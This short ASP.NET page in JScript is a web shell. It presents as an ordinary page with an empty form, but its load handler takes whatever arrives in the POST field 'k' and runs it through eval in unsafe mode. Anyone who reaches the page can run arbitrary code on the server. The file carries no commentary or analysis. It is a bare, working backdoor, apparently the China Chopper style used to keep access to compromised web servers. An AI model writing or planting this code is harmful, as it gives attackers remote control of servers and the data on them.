<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load(sender : Object, e : EventArgs) {
    var k = Request.Form["k"];
    var code = k;
    if (code != null && code.length > 0) {
        eval(code, "unsafe");
    }
}
</script>
<html><body><form method="post" runat="server"></form></body></html>
